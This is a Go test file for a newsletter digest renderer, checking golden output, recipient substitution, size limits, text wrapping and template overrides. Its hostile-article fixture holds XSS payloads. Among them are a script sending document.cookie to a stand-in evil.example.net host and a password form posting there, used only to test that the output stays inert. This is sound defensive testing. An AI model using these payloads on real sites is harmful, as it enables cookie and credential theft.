package render

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"newsletter/digest"
	"newsletter/internal/digesttest"
	"newsletter/internal/testdb"
	"newsletter/templates"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden")

// Marker values the sender renders with and substitutes per reader.
var markerRecipient = Recipient{
	Name:           "XNLSLOTNAMEX",
	Email:          "xnlslotemailx@slot.invalid",
	UnsubscribeURL: "http://slot.invalid/XNLSLOTUNSUBX",
	ManageURL:      "http://slot.invalid/XNLSLOTMANAGEX",
}

func newTestRenderer(t testing.TB) *Renderer {
	t.Helper()
	fsys := templates.FS("")
	cat, err := templates.LoadCatalog(fsys)
	if err != nil {
		t.Fatal(err)
	}
	r, err := NewRenderer(fsys, cat, Options{
		BaseURL:       "https://digest.example.com",
		SiteURL:       "https://news.example.com",
		Publication:   "The Example Times",
		PostalAddress: "The Example Times, 1 Example Street, 10115 Berlin, Germany",
		From:          "The Example Times <digest@example.com>",
	})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func ts(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

// hostileArticle is the worst a feed can send, as if the ingester had let all of it through.
var hostileArticle = digest.Article{
	Title:       `<script>alert('title')</script>Hostile <b onmouseover="alert(1)">headline</b> <img src=x onerror="alert(2)">`,
	GUID:        "example-en-hostile",
	Link:        "javascript:alert(document.cookie)",
	Section:     "<i>World</i>",
	Author:      "<script>x()</script>Mallory",
	ImageURL:    "javascript:alert('enclosure')",
	ImageAlt:    `" onerror="alert(8)`,
	PublishedAt: ts("2026-11-20T07:00:00Z"),
	Summary: `<script>document.location='https://evil.example.net/?c='+document.cookie</script><style>body{display:none}</style>` +
		`<p onclick="alert(3)">A perfectly ordinary <a href="javascript:alert(4)">paragraph</a></p><iframe src="https://evil.example.net/frame"></iframe>` +
		`<form action="https://evil.example.net/steal"><input name="password"></form><img src="https://tracker.example.net/open.gif?u=42" width="1" height="1">`,
}

func TestGolden(t *testing.T) {
	ctx := context.Background()
	db := testdb.New(t)
	s, ids := digesttest.GoldenIssues(t, db, "../feeds/testdata/feeds")
	r := newTestRenderer(t)
	for _, tt := range []struct {
		lang string
		max  int
	}{{"en", 0}, {"ru", 4}} {
		t.Run(tt.lang, func(t *testing.T) {
			c, err := s.Content(ctx, ids[tt.lang], tt.max)
			if err != nil {
				t.Fatal(err)
			}
			out, err := r.Render(c, markerRecipient)
			if err != nil {
				t.Fatal(err)
			}
			digesttest.CheckInert(t, out.HTML) // the feeds' hostile item included
			for ext, got := range map[string]string{"html": out.HTML, "txt": "Subject: " + out.Subject + "\nPreheader: " + out.Preheader + "\n\n" + out.Text} {
				path := filepath.Join("testdata", "golden", "digest."+tt.lang+"."+ext)
				if *update {
					if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
						t.Fatal(err)
					}
					continue
				}
				want, err := os.ReadFile(path)
				if err != nil {
					t.Fatalf("%v (run with -update to create it)", err)
				}
				if got != string(want) {
					t.Errorf("%s differs from the golden file; if the change is intended, run go test ./digest/render/ -run Golden -update\n%s", path, firstDiff(string(want), got))
				}
			}
		})
	}
}

// firstDiff shows the first line where want and got part.
func firstDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := range max(len(w), len(g)) {
		var wl, gl string
		if i < len(w) {
			wl = w[i]
		}
		if i < len(g) {
			gl = g[i]
		}
		if wl != gl {
			return fmt.Sprintf("line %d:\nwant %q\ngot  %q", i+1, wl, gl)
		}
	}
	return ""
}

func TestRenderRecipient(t *testing.T) {
	ctx := context.Background()
	db := testdb.New(t)
	s, ids := digesttest.GoldenIssues(t, db, "../feeds/testdata/feeds")
	r := newTestRenderer(t)
	c, err := s.Content(ctx, ids["en"], 0)
	if err != nil {
		t.Fatal(err)
	}
	marked, err := r.Render(c, markerRecipient)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range []string{markerRecipient.Name, markerRecipient.UnsubscribeURL, markerRecipient.ManageURL} {
		if !strings.Contains(marked.HTML, m) || !strings.Contains(marked.Text, m) {
			t.Errorf("marker %q missing from the HTML or the text", m)
		}
	}
	if strings.Contains(marked.HTML+marked.Text, "xnlslotemailx") {
		t.Error("the recipient's address is in the body")
	}

	// Rendering for another reader gives exactly the marked output with the markers replaced:
	// nothing else about the reader is in it.
	other := Recipient{Name: "Zoë", Email: "zoe@example.org", UnsubscribeURL: "https://digest.example.com/unsubscribe/tok-1", ManageURL: "https://digest.example.com/manage/tok-2"}
	got, err := r.Render(c, other)
	if err != nil {
		t.Fatal(err)
	}
	subst := strings.NewReplacer(markerRecipient.Name, other.Name, markerRecipient.UnsubscribeURL, other.UnsubscribeURL, markerRecipient.ManageURL, other.ManageURL)
	if subst.Replace(marked.HTML) != got.HTML {
		t.Errorf("HTML for another reader is not the marked HTML with markers replaced\n%s", firstDiff(subst.Replace(marked.HTML), got.HTML))
	}
	if subst.Replace(marked.Text) != got.Text {
		t.Errorf("text for another reader is not the marked text with markers replaced\n%s", firstDiff(subst.Replace(marked.Text), got.Text))
	}

	// The copy for nobody has no reader links and invites to subscribe instead.
	archive, err := r.Render(c, Recipient{})
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range []string{archive.HTML, archive.Text} {
		if strings.Contains(part, "slot.invalid") || strings.Contains(part, "unsubscribe") || !strings.Contains(part, "https://digest.example.com/") {
			t.Errorf("archive copy: want no reader links and the subscribe link")
		}
	}
	if !strings.Contains(archive.HTML, `href="https://digest.example.com/archive/`) {
		t.Error("no view-in-browser link")
	}
}

// TestRenderHostile feeds the hostile article as the lead (its image path included) and as an
// ordinary item, and checks nothing active from it reaches the HTML.
func TestRenderHostile(t *testing.T) {
	r := newTestRenderer(t)
	lead := hostileArticle
	lead.ID, lead.Lang, lead.Pinned = 1, "en", true
	item := hostileArticle
	item.ID, item.Lang, item.Section = 2, "en", ""
	c := digest.Arrange([]digest.Article{lead, item}, 0)
	c.Issue = digest.Issue{ID: 7, Lang: "en", WindowEnd: digesttest.GoldenNow, Note: `<script>alert("note")</script>`}
	for _, rcpt := range []Recipient{markerRecipient, {}} {
		out, err := r.Render(c, rcpt)
		if err != nil {
			t.Fatal(err)
		}
		digesttest.CheckInert(t, out.HTML)
		if !strings.Contains(out.HTML, "Hostile") {
			t.Error("the hostile headline's text should still show, escaped")
		}
	}
}

// checkInert fails when doc holds anything active or any non-http(s) link or a foreign image.
// TestRenderSize asserts a full digest stays under Gmail's 102 KB clipping limit.
func TestRenderSize(t *testing.T) {
	r := newTestRenderer(t)
	c := digest.Arrange(maxSizeArticles(20), 20)
	c.Issue = digest.Issue{ID: 123456, Lang: "en", WindowEnd: digesttest.GoldenNow, Note: strings.Repeat("A note from the editors. ", 40)}
	out, err := r.Render(c, markerRecipient)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(out.HTML); n >= 100*1024 {
		t.Errorf("HTML of a 20-article digest is %d bytes, want under 100 KB", n)
	} else {
		t.Logf("HTML of a 20-article digest: %d bytes; text: %d bytes", n, len(out.Text))
	}
}

// maxSizeArticles makes n articles with 150-character titles and 300-character summaries.
func maxSizeArticles(n int) []digest.Article {
	sections := []string{"World", "Economy", "Culture", "Science", ""}
	var out []digest.Article
	for i := range n {
		title := fmt.Sprintf("Headline number %02d ", i) + strings.Repeat("long words in a headline ", 6)
		summary := strings.Repeat("A summary sentence that goes on for a while. ", 7)
		out = append(out, digest.Article{
			ID: int64(i + 1), Lang: "en", GUID: fmt.Sprintf("max-%d", i),
			Title: title[:150], Summary: summary[:299] + "…",
			Link:   fmt.Sprintf("https://news.example.com/en/2026/11/%02d/a-rather-long-article-slug-for-story-number-%d", 1+i%24, i),
			Author: "Anna Example", Section: sections[i%len(sections)],
			ImageURL:    fmt.Sprintf("https://news.example.com/images/2026/11/picture-%d.jpg", i),
			PublishedAt: digesttest.GoldenNow.Add(-time.Duration(i) * time.Hour),
		})
	}
	return out
}

func TestRenderText(t *testing.T) {
	ctx := context.Background()
	db := testdb.New(t)
	s, ids := digesttest.GoldenIssues(t, db, "../feeds/testdata/feeds")
	r := newTestRenderer(t)
	for lang, id := range ids {
		c, err := s.Content(ctx, id, 3)
		if err != nil {
			t.Fatal(err)
		}
		out, err := r.Render(c, markerRecipient)
		if err != nil {
			t.Fatal(err)
		}
		for i, line := range strings.Split(out.Text, "\n") {
			if n := utf8.RuneCountInString(line); n > TextWidth && strings.Contains(strings.TrimSpace(line), " ") {
				t.Errorf("%s line %d has %d characters: %q", lang, i+1, n, line)
			}
		}
		// Every reference mark has its link in the list at the end, and the lead's link is [1].
		if !strings.Contains(out.Text, "\n[1] "+c.Lead.Link+"\n") {
			t.Errorf("%s: the lead's link is not reference [1]", lang)
		}
		if !strings.Contains(out.Text, "https://news.example.com\n") {
			t.Errorf("%s: no link to the site for the articles past the limit", lang)
		}
	}
}

func TestFormatDate(t *testing.T) {
	tests := []struct {
		lang string
		t    time.Time
		want string
	}{
		{"en", digesttest.GoldenNow, "25 November 2026"},
		{"ru", digesttest.GoldenNow, "25 ноября 2026"},
		{"ru", ts("2026-03-01T00:00:00Z"), "1 марта 2026"},
		{"ru", ts("2026-05-09T23:59:00Z"), "9 мая 2026"},
		{"de", digesttest.GoldenNow, "25 November 2026"},
	}
	for _, tt := range tests {
		if got := FormatDate(tt.lang, tt.t); got != tt.want {
			t.Errorf("FormatDate(%s, %v) = %q, want %q", tt.lang, tt.t, got, tt.want)
		}
	}
}

func TestSubject(t *testing.T) {
	r := newTestRenderer(t)
	lead := &digest.Article{Title: "Заголовок\nв две строки"}
	tests := []struct {
		name  string
		lang  string
		total int
		set   string
		want  string
	}{
		{"RuOne", "ru", 2, "", "Заголовок в две строки — и ещё 1 материал"},
		{"RuFew", "ru", 3, "", "Заголовок в две строки — и ещё 2 материала"},
		{"RuMany", "ru", 6, "", "Заголовок в две строки — и ещё 5 материалов"},
		{"RuTwentyOne", "ru", 22, "", "Заголовок в две строки — и ещё 21 материал"},
		{"EnOne", "en", 2, "", "Заголовок в две строки — and 1 more story"},
		{"EnOther", "en", 12, "", "Заголовок в две строки — and 11 more stories"},
		{"LeadOnly", "en", 1, "", "Заголовок в две строки"},
		{"EditorWins", "en", 5, "Our own subject", "Our own subject"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := digest.IssueContent{Issue: digest.Issue{Lang: tt.lang, Subject: tt.set}, Lead: lead, Total: tt.total}
			if got := r.Subject(c); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestWrapText(t *testing.T) {
	long := strings.Repeat("слово ", 30)
	got := wrapText("* ", "  ", long)
	for _, l := range strings.Split(got, "\n") {
		if n := utf8.RuneCountInString(l); n > TextWidth {
			t.Errorf("line of %d runes: %q", n, l)
		}
		if !strings.HasPrefix(l, "* ") && !strings.HasPrefix(l, "  ") {
			t.Errorf("line without its indent: %q", l)
		}
	}
	if url := "https://example.com/" + strings.Repeat("x", 100); wrapText("", "", url) != url {
		t.Error("a word longer than the line must stay whole")
	}
}

// BenchmarkAssembleRender20 assembles (refreshing the draft) and renders a 20-article digest.
func BenchmarkAssembleRender20(b *testing.B) {
	ctx := context.Background()
	db := testdb.New(b)
	s := digest.NewStore(db, func() time.Time { return digesttest.GoldenNow })
	for _, a := range maxSizeArticles(20) {
		a.ID = 0
		digesttest.InsertArticle(b, db, a)
	}
	r := newTestRenderer(b)
	b.ReportAllocs()
	for b.Loop() {
		iss, err := s.Assemble(ctx, "en", 20)
		if err != nil {
			b.Fatal(err)
		}
		c, err := s.Content(ctx, iss.ID, 20)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := r.Render(c, markerRecipient); err != nil {
			b.Fatal(err)
		}
	}
}

// TestRenderOverride checks a publication's file replaces the embedded one of the same name.
func TestRenderOverride(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "email"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "email", "digest.txt"), []byte("BRANDED {{.Lead.Title}}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	fsys := templates.FS(dir)
	cat, err := templates.LoadCatalog(fsys)
	if err != nil {
		t.Fatal(err)
	}
	r, err := NewRenderer(fsys, cat, Options{BaseURL: "https://digest.example.com"})
	if err != nil {
		t.Fatal(err)
	}
	c := digest.Arrange([]digest.Article{{ID: 1, Lang: "en", Title: "Lead", PublishedAt: digesttest.GoldenNow}}, 0)
	c.Issue = digest.Issue{ID: 1, Lang: "en", WindowEnd: digesttest.GoldenNow}
	out, err := r.Render(c, Recipient{})
	if err != nil {
		t.Fatal(err)
	}
	if out.Text != "BRANDED Lead\n" || !strings.Contains(out.HTML, "<!DOCTYPE html>") {
		t.Errorf("override: text %q; the HTML should stay the embedded one", out.Text)
	}
}

// TestRenderConcurrent renders one issue from many goroutines: the parsed templates are shared
// and never changed, so every result is the same.
func TestRenderConcurrent(t *testing.T) {
	r := newTestRenderer(t)
	c := digest.Arrange(maxSizeArticles(12), 12)
	c.Issue = digest.Issue{ID: 9, Lang: "ru", WindowEnd: digesttest.GoldenNow}
	want, err := r.Render(c, markerRecipient)
	if err != nil {
		t.Fatal(err)
	}
	errs := make(chan error, 8)
	for range 8 {
		go func() {
			got, err := r.Render(c, markerRecipient)
			if err == nil && got != want {
				err = fmt.Errorf("a concurrent render differs")
			}
			errs <- err
		}()
	}
	for range 8 {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}
